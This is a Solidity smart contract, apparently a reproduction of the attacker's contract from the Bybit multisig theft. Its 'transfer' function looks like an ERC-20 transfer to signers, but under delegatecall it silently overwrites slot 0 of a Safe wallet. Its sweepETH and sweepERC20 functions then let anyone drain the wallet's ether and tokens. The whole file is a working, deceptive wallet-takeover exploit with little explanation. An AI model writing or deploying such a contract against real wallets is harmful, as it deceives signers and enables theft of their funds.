// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// @title SlotZeroTakeover
/// @notice The attacker's contract of the Bybit pattern. Its `transfer`
/// looks like an ERC-20 transfer to whoever signs the call, but run by a
/// delegatecall it writes `recipient` into slot 0 of the calling wallet
/// (a Safe's singleton) and logs nothing. Once the wallet delegates to it,
/// `sweepETH` and `sweepERC20` let anyone empty the wallet.
contract SlotZeroTakeover {
    /// @dev Slot 0 of whatever storage this code runs on.
    address internal slot0;

    function transfer(address recipient, uint256) external {
        slot0 = recipient;
    }

    function sweepETH(address to) external {
        (bool ok, ) = to.call{value: address(this).balance}("");
        require(ok, "SlotZeroTakeover: send failed");
    }

    function sweepERC20(address token, address to) external {
        (bool ok, bytes memory ret) = token.call(abi.encodeWithSelector(0x70a08231, address(this)));
        require(ok && ret.length == 32, "SlotZeroTakeover: balanceOf failed");
        uint256 amount = abi.decode(ret, (uint256));
        (ok, ret) = token.call(abi.encodeWithSelector(0xa9059cbb, to, amount));
        require(ok && (ret.length == 0 || abi.decode(ret, (bool))), "SlotZeroTakeover: token transfer failed");
    }
}
